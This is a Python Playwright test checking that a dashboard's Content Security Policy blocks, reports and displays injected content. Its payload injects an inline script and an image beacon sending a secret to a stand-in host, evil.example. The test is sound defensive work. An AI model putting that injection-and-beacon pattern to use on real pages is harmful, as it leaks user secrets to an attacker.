"""Chromium itself blocks what the policy does not allow, and reports it."""

from typing import Any

from playwright.sync_api import Browser

SMUGGLED = """() => {
  const script = document.createElement("script");
  script.textContent = "window.smuggled = true";
  document.body.append(script);
  const picture = document.createElement("img");
  picture.src = "https://evil.example/collect?secret=SECRET";
  document.body.append(picture);
}"""


def test_what_is_smuggled_into_a_page_is_blocked_reported_and_shown(
    chromium: Browser, dashboard: Any
) -> None:
    context = chromium.new_context(base_url=dashboard.url)
    page = context.new_page()
    page.goto("/login?next=/SECRET")
    with page.expect_request("**/api/csp-reports"):
        page.evaluate(SMUGGLED)
    page.wait_for_timeout(200)
    assert page.evaluate("window.smuggled") is None
    page.get_by_label("Username").fill("admin")
    page.get_by_label("Password").fill("correct horse battery staple")
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_load_state()
    page.goto("/settings/security")
    shown = page.get_by_role("region", name="Violations").inner_text()
    assert "inline" in shown
    assert "https://evil.example" in shown
    assert "/login" in shown
    assert "SECRET" not in shown
    context.close()
